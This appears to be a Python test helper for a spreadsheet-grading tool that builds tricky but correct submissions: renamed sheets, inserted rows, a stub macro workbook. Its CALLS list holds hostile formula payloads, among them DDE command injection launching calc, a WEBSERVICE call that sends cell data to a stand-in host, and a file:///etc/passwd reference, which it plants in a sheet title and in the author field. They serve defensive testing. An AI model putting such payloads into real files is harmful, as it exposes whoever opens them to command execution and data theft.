"""Right submissions that look otherwise: sheets renamed, rows inserted, full of what calls out, with macros."""

import re
from collections.abc import Callable
from pathlib import Path
from zipfile import ZipFile

from openpyxl import Workbook

from tests.inspecting.mutants import REF


def renamed(book: Workbook) -> None:
    """Sheets with other names, as a program renames them: formulas and names follow."""
    for old, new in {"Data": "Zahlen", "Calc": "計算", "BP": "Netz"}.items():
        book[old].title = new
        _everywhere(book, lambda text, sheet, old=old, new=new: text.replace(f"{old}!", f"{new}!"))


def inserted(book: Workbook) -> None:
    """Two rows above the cases of Calc, as a program inserts them: formulas and names follow."""
    first, more = 4, 2

    def shifted(found: re.Match[str]) -> str:
        return f"{found[1]}{found[2]}{found[3]}{int(found[4]) + more * (int(found[4]) >= first)}"

    def follow(text: str, sheet: str) -> str:
        """The references of a formula to Calc: those after its name, and in Calc those without a name."""

        def one(found: re.Match[str]) -> str:
            there = found[1].rstrip("!").strip("'") if found[1] else sheet
            return (found[1] or "") + (REF.sub(shifted, found[2]) if there == "Calc" else found[2])

        return re.sub(r"((?:'[^']+'|[A-Za-z]\w*)!)?(\$?[A-Z]{1,3}\$?\d+(?::\$?[A-Z]{1,3}\$?\d+)?)", one, text)

    _everywhere(book, follow)
    book["Calc"].insert_rows(first, more)


def _everywhere(book: Workbook, change: Callable[[str, str], str]) -> None:
    for sheet in book:
        for row in sheet.iter_rows():
            for cell in row:
                if cell.data_type == "f" and isinstance(cell.value, str):
                    cell.value = change(cell.value, sheet.title)
    for name in book.defined_names.values():
        name.attr_text = change(name.attr_text, "")


CALLS = (
    "=cmd|' /C calc'!A0",
    '=WEBSERVICE("http://192.0.2.1/"&A1)',
    '=HYPERLINK("http://192.0.2.1/","click")',
    "=[1]Sheet1!A1",
    "='file:///etc/[passwd]Sheet1'!A1",
    "@SUM(1+1)*cmd|' /C calc'!A0",
    "+1+cmd|' /C calc'!A0",
)


def hostile(book: Workbook) -> None:
    """What calls out, beside right answers; the sheet's heading is an attack on whoever opens the report."""
    sheet = book.create_sheet("=1+1")
    for number, text in enumerate(CALLS, 1):
        sheet.cell(number, 1).value = text
    book.properties.creator = CALLS[0]


def with_macros(path: Path) -> None:
    """Make a workbook one with macros; what the project says does not matter, for nobody runs it."""
    with ZipFile(path) as package:
        content = {name: package.read(name) for name in package.namelist()}
    plain, macros = b"spreadsheetml.sheet.main+xml", b"vnd.ms-excel.sheet.macroEnabled.main+xml"
    types = content["[Content_Types].xml"].replace(b"vnd.openxmlformats-officedocument." + plain, macros)
    content["[Content_Types].xml"] = types.replace(
        b"</Types>", b'<Default Extension="bin" ContentType="application/vnd.ms-office.vbaProject"/></Types>'
    )
    content["xl/vbaProject.bin"] = b"\xd0\xcf\x11\xe0 Sub Auto_Open()"
    with ZipFile(path, "w") as package:
        for name, data in content.items():
            package.writestr(name, data)
